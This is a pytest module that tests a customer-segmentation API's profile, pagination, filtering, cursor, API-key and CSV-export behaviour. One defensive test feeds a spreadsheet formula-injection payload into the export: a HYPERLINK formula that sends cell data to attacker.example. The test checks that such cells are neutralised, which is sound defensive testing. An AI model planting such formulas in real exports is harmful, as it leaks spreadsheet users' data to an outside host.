"""HTTP behaviour of the customer and segment endpoints on 2,500 hand-made profiles in pages of 200."""

from __future__ import annotations

import csv
import dataclasses
import io
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from feature_store import open_store
from serving.app import create_app
from serving.settings import ServingSettings
from tests.conftest import redis_url
from tests.training.test_publish_customers import (
    SEGMENT_OF_DIGIT,
    hand_made_profile,
    hand_made_profiles,
    publish_customers,
)

PROFILES = hand_made_profiles()
CANT_LOSE = "/v1/segments/" + quote("Can't Lose Them")


@pytest.fixture
def store_url(tmp_path):
    return f"sqlite:///{tmp_path / 'store.sqlite'}"


@pytest.fixture
def published(store_url):
    # retired snapshots are deleted at the next commit, without a grace period: a cursor's expiry shows
    store = open_store(store_url, prefix="t", retain=2, expire_seconds=0)
    manifest = publish_customers(store)
    yield store, manifest
    store.close()


def client_for(store_url: str, prefix: str = "t", **overrides) -> TestClient:
    # the limits store beside the snapshot store: its default, var/limits.sqlite, would sit in the working
    # directory and carry caps and exposures from one test run to the next
    overrides.setdefault("limits_url", store_url.replace("store.sqlite", "limits.sqlite"))
    settings = ServingSettings(store_url=store_url, store_prefix=prefix, snapshot_refresh_seconds=0, **overrides)
    return TestClient(create_app(settings))


def members_of(segment: str | None = None, min_churn=None, max_churn=None, min_clv=None, max_clv=None) -> list[str]:
    """The hand-computed answer: profiles in order, kept when every given bound holds on a known value."""
    def keep(p):
        for value, low, high in ((p.churn_probability, min_churn, max_churn), (p.clv, min_clv, max_clv)):
            if (low is not None or high is not None) and value is None:
                return False
            if (low is not None and value < low) or (high is not None and value > high):
                return False
        return True
    return [p.customer_id for p in PROFILES if (segment is None or p.segment == segment) and keep(p)]


def walk(client, path: str, **params) -> tuple[list[str], set[str], int]:
    ids, snapshots, requests, cursor = [], set(), 0, None
    while True:
        response = client.get(path, params={**params, **({"cursor": cursor} if cursor else {})})
        assert response.status_code == 200, response.text
        body = response.json()
        ids += [item["customer_id"] for item in body["items"]]
        snapshots.add(body["snapshot_id"])
        requests += 1
        cursor = body["next_cursor"]
        if cursor is None:
            return ids, snapshots, requests


def test_profile_body(store_url, published):
    _, manifest = published
    with client_for(store_url) as client:
        response = client.get("/v1/customers/c00028/profile")
    assert response.status_code == 200
    assert response.json() == {
        "customer_id": "c00028", "segment": "At Risk",
        "rfm": {"recency_score": 4, "frequency_score": 1, "monetary_score": 2, "recency_days": 28.0,
                "frequency": 5, "monetary": 20.0},
        "cluster": {"id": 0, "name": "Bargain hunters"},
        "churn": {"probability": 0.28, "reasons": [{"feature": "recency_days", "value": 28.0, "contribution": 0.5}]},
        "p_alive": 1 - 28 / 200, "expected_purchases": 1.5, "clv": None, "country": "FR",
        "snapshot_id": manifest.snapshot_id,
        "model": {"name": "recsys-recommender", "version": "7", "run_id": "run-7", "alias": "champion"},
        "intelligence": {"clv_status": "ok", "run_id": "ci-7"},
    }


def test_unknown_customer_is_404(store_url, published):
    with client_for(store_url) as client:
        response = client.get("/v1/customers/nobody/profile")
    assert response.status_code == 404
    assert "nobody" in response.json()["detail"] and "no profile" in response.json()["detail"]


def test_segment_list(store_url, published):
    _, manifest = published
    with client_for(store_url) as client:
        body = client.get("/v1/segments").json()
    assert [(s["name"], s["slug"], s["size"], s["revenue_share"]) for s in body["segments"]] == [
        ("Champions", "champions", 1000, 0.5), ("Loyal", "loyal", 500, 0.2),
        ("Can't Lose Them", "cant-lose-them", 500, 0.15), ("At Risk", "at-risk", 250, 0.1),
        ("Hibernating", "hibernating", 250, 0.05)]
    assert body["segments"][0]["definition"] == "R>=4 and F>=4"
    assert body["snapshot_id"] == manifest.snapshot_id and body["profiles"] == 2500
    assert body["clusters"] == [{"id": 0, "name": "Bargain hunters"}, {"id": 1, "name": "Big baskets"}]


@pytest.mark.parametrize("limit", [1000, 137])
def test_pagination_walks_every_member_once_in_order(store_url, published, limit):
    with client_for(store_url) as client:
        ids, snapshots, requests = walk(client, CANT_LOSE + "/customers", limit=limit)
    assert ids == members_of("Can't Lose Them")
    assert snapshots == {published[1].snapshot_id}
    assert requests == -(-500 // limit)


def test_all_walks_every_customer_segment_after_segment(store_url, published):
    with client_for(store_url) as client:
        ids, _, _ = walk(client, "/v1/segments/all/customers", limit=1000)
    order = ["Champions", "Loyal", "Can't Lose Them", "At Risk", "Hibernating"]
    assert ids == [c for segment in order for c in members_of(segment)]


def test_slug_and_encoded_name_are_the_same_segment(store_url, published):
    with client_for(store_url) as client:
        by_name = client.get(CANT_LOSE + "/customers", params={"limit": 3}).json()
        by_slug = client.get("/v1/segments/cant-lose-them/customers", params={"limit": 3}).json()
        # A cursor made through the name may be followed through the slug.
        follow = client.get("/v1/segments/cant-lose-them/customers",
                            params={"limit": 3, "cursor": by_name["next_cursor"]}).json()
    assert by_name == by_slug and by_name["segment"] == "Can't Lose Them"
    assert [i["customer_id"] for i in by_name["items"] + follow["items"]] == members_of("Can't Lose Them")[:6]


@pytest.mark.parametrize("bounds", [
    {"min_churn": 0.9}, {"max_churn": 0.05}, {"min_churn": 0.2, "max_churn": 0.3},
    {"min_clv": 1000, "max_clv": 1500}, {"min_churn": 0.5, "max_clv": 800}, {"min_churn": 0.0},
])
def test_filters_give_the_hand_computed_subsets(store_url, published, bounds):
    with client_for(store_url) as client:
        ids, _, _ = walk(client, "/v1/segments/champions/customers", limit=100, **bounds)
    assert ids == members_of("Champions", **bounds)
    assert ids  # every case selects someone


def test_member_items_carry_the_profile_fields(store_url, published):
    with client_for(store_url) as client:
        item = client.get("/v1/segments/at-risk/customers", params={"limit": 2}).json()["items"][1]
    p = hand_made_profile(18)
    assert item == {**p.__dict__, "churn_reasons": p.churn_reasons}


def test_unknown_segment_names_the_valid_ones(store_url, published):
    with client_for(store_url) as client:
        response = client.get("/v1/segments/Whales/customers")
        export = client.get("/v1/segments/Whales/export.csv")
    assert response.status_code == 404 and export.status_code == 404
    detail = response.json()["detail"]
    assert "Whales" in detail and "Can't Lose Them" in detail and "Hibernating" in detail


@pytest.mark.parametrize("params,field", [
    ({"min_churn": 0.6, "max_churn": 0.5}, "min_churn"), ({"min_clv": 10, "max_clv": 5}, "min_clv"),
    ({"min_churn": 1.5}, "min_churn"), ({"max_churn": -0.1}, "max_churn"), ({"limit": 1001}, "limit"),
    ({"limit": 0}, "limit"), ({"min_clv": "nan"}, "min_clv"), ({"cursor": "not-a-cursor"}, "cursor"),
])
def test_invalid_parameters_are_422_naming_the_field(store_url, published, params, field):
    with client_for(store_url) as client:
        response = client.get("/v1/segments/loyal/customers", params=params)
        export = client.get("/v1/segments/loyal/export.csv", params={k: v for k, v in params.items()
                                                                        if k not in ("limit", "cursor")})
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"] == ["query", field]
    if field not in ("limit", "cursor"):
        assert export.status_code == 422 and export.json()["detail"][0]["loc"] == ["query", field]


def test_cursor_of_another_segment_is_refused(store_url, published):
    with client_for(store_url) as client:
        cursor = client.get("/v1/segments/loyal/customers", params={"limit": 1}).json()["next_cursor"]
        response = client.get("/v1/segments/at-risk/customers", params={"cursor": cursor})
    assert response.status_code == 422 and "Loyal" in response.json()["detail"][0]["msg"]


def test_csv_export(store_url, published):
    with client_for(store_url) as client, client.stream("GET", CANT_LOSE + "/export.csv",
                                                        params={"min_churn": 0.5}) as response:
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        assert response.headers["x-snapshot-id"] == published[1].snapshot_id
        assert 'filename="cant-lose-them.csv"' in response.headers["content-disposition"]
        text = b"".join(response.iter_bytes()).decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["customer_id", "segment", "recency_score", "frequency_score", "monetary_score", "cluster",
                       "cluster_name", "churn_probability", "p_alive", "expected_purchases", "clv", "recency_days",
                       "frequency", "monetary", "country", "reason_1_feature", "reason_1_value",
                       "reason_1_contribution", "reason_2_feature", "reason_2_value", "reason_2_contribution"]
    assert [r[0] for r in rows[1:]] == members_of("Can't Lose Them", min_churn=0.5)
    first = dict(zip(rows[0], rows[1], strict=True))  # c00056: churn 0.56, 2 reasons
    assert first["customer_id"] == "c00056" and first["segment"] == "Can't Lose Them"
    assert (first["churn_probability"], first["clv"], first["reason_2_feature"]) == ("0.56", "", "frequency")


def test_csv_export_of_all_customers(store_url, published):
    with client_for(store_url) as client:
        text = client.get("/v1/segments/all/export.csv").text
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + 2500
    assert sorted(r[0] for r in rows[1:]) == sorted(p.customer_id for p in PROFILES)
    assert {r[1] for r in rows[1:]} == set(SEGMENT_OF_DIGIT)


def test_cursor_stays_on_its_snapshot_through_rollback_and_expires_with_it(store_url, published):
    store, first = published
    newer_profiles = [p.__class__(**{**p.__dict__, "clv": 1.0}) for p in PROFILES]
    with client_for(store_url) as client:
        second = publish_customers(store, newer_profiles, version="8")
        page = client.get("/v1/segments/loyal/customers", params={"limit": 400}).json()
        assert page["snapshot_id"] == second.snapshot_id
        store.rollback()
        rest = client.get("/v1/segments/loyal/customers", params={"cursor": page["next_cursor"]}).json()
        assert rest["snapshot_id"] == second.snapshot_id and {i["clv"] for i in rest["items"]} == {1.0}
        assert [i["customer_id"] for i in page["items"] + rest["items"]] == members_of("Loyal")
        fresh = client.get("/v1/segments/loyal/customers", params={"limit": 1}).json()
        assert fresh["snapshot_id"] == first.snapshot_id
        stale = client.get("/v1/segments/loyal/customers", params={"limit": 1}).json()["next_cursor"]
        publish_customers(store, version="9")
        publish_customers(store, version="10")  # retain=2: the first snapshot is removed
        gone = client.get("/v1/segments/loyal/customers", params={"cursor": stale})
    assert gone.status_code == 410
    assert first.snapshot_id in gone.json()["detail"] and "expired" in gone.json()["detail"]


def test_api_keys_and_scopes(store_url, published):
    keys = {"marketer": ["customers:read", "segments:read"], "storefront": ["recommendations:read"],
            "analyst": ["segments:read"]}
    with client_for(store_url, api_keys=keys) as client:
        for path in ("/v1/customers/c00001/profile", "/v1/segments", "/v1/segments/loyal/customers",
                     "/v1/segments/loyal/export.csv"):
            assert client.get(path).status_code == 401
            assert client.get(path, headers={"X-API-Key": "storefront"}).status_code == 403
            assert client.get(path, headers={"X-API-Key": "marketer"}).status_code == 200
        profile = client.get("/v1/customers/c00001/profile", headers={"X-API-Key": "analyst"})
        assert profile.status_code == 403 and "customers:read" in profile.json()["detail"]
        assert client.get("/v1/segments", headers={"X-API-Key": "analyst"}).status_code == 200


def test_snapshot_without_customer_intelligence(store_url):
    from tests.serving.snapshot_fixture import publish_hand_made

    store = open_store(store_url, prefix="t")
    publish_hand_made(store)
    store.close()
    with client_for(store_url) as client:
        response = client.get("/v1/segments")
    assert response.status_code == 404 and "no customer intelligence" in response.json()["detail"]


@pytest.mark.redis
def test_against_redis(redis_prefix):
    store = open_store(redis_url(), prefix=redis_prefix)
    manifest = publish_customers(store)
    store.close()
    with client_for(redis_url(), prefix=redis_prefix) as client:
        ids, snapshots, _ = walk(client, CANT_LOSE + "/customers", limit=150, max_clv=2000)
        text = client.get("/v1/segments/all/export.csv").text
        profile = client.get("/v1/customers/c00013/profile").json()
    assert ids == members_of("Can't Lose Them", max_clv=2000) and snapshots == {manifest.snapshot_id}
    assert len(text.splitlines()) == 2501
    assert profile["churn"]["probability"] == 0.13 and profile["snapshot_id"] == manifest.snapshot_id


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(tmp_path):
    url = f"sqlite:///{tmp_path / 'formula.sqlite'}"
    attack = '=HYPERLINK("http://attacker.example/?d="&A2,"UK")'
    profiles = [dataclasses.replace(hand_made_profile(1), customer_id="@SUM(1+1)", country=attack),
                dataclasses.replace(hand_made_profile(2), customer_id="-c2", country="UK")]
    store = open_store(url, prefix="t")
    publish_customers(store, profiles)
    store.close()
    with client_for(url) as client:
        rows = list(csv.reader(io.StringIO(client.get("/v1/segments/all/export.csv").text)))
    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert set(by_id) == {"'@SUM(1+1)", "'-c2"}
    assert by_id["'@SUM(1+1)"]["country"] == "'" + attack and by_id["'-c2"]["country"] == "UK"
    assert by_id["'-c2"]["reason_2_contribution"] == "-0.25"  # numbers keep their sign


def test_csv_export_keeps_a_cell_with_line_breaks_in_its_row(tmp_path):
    url = f"sqlite:///{tmp_path / 'breaks.sqlite'}"
    profiles = [dataclasses.replace(hand_made_profile(1), customer_id="c1", country="United\rKingdom"),
                dataclasses.replace(hand_made_profile(2), customer_id="c2", country="Eire\r\nIreland"),
                dataclasses.replace(hand_made_profile(3), customer_id="c3", country="France")]
    store = open_store(url, prefix="t")
    publish_customers(store, profiles)
    store.close()
    with client_for(url) as client:
        body = client.get("/v1/segments/all/export.csv").content.decode()
    rows = list(csv.reader(io.StringIO(body, newline="")))  # as a file opened with newline="" reads
    assert len(rows) == 4 and {len(row) for row in rows} == {len(rows[0])}
    country = {row[0]: row[rows[0].index("country")] for row in rows[1:]}
    assert country == {"c1": "United\rKingdom", "c2": "Eire\r\nIreland", "c3": "France"}
